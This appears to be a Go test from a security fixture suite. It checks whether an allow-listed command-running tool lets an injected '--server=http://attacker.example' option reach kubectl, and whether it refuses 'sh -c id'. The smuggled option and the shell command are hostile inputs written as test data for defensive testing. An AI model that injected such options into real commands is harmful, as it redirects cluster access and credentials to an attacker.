package escape_test

import (
	"flag"
	"os"
	"strings"
	"testing"

	"fixtures/omcg0031/splitter"
)

// OMCG0031 on a command line cut by a splitter of the package's own
// (strings.FieldsFunc, then the quotes taken off in a loop), whose program
// is held to the operator's list when the operator gives one: with
// kubectl permitted, "kubectl get "pods" --server=…" passes the list and
// kubectl takes the option through the flagged tool; the tool that
// refuses the other words that are options refuses the same line.
func TestOptionInjectionSplitter(t *testing.T) {
	fs := flag.NewFlagSet("server", flag.ContinueOnError)
	splitter.Flags(fs)
	if err := fs.Parse([]string{"-permit", "kubectl"}); err != nil {
		t.Fatal(err)
	}
	marker := fakeKubectl(t)
	cs := connect(t, splitter.Register)
	const attacker = "http://attacker.example"
	line := `kubectl get "pods" --server=` + attacker
	for tool, flagged := range map[string]bool{"run": true, "run_checked": false} {
		os.Remove(marker)
		call(t, cs, tool, map[string]any{"command": line})
		got, _ := os.ReadFile(marker)
		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != flagged {
			t.Errorf("%s %q: kubectl read --server= as its option: %v, want %v", tool, line, escaped, flagged)
		}
	}
	// The list is a check once it is given: another program is refused.
	if text, _ := call(t, cs, "run", map[string]any{"command": "sh -c id"}); !strings.Contains(text, "not permitted") {
		t.Errorf("run ran a program not permitted: %q", text)
	}
}
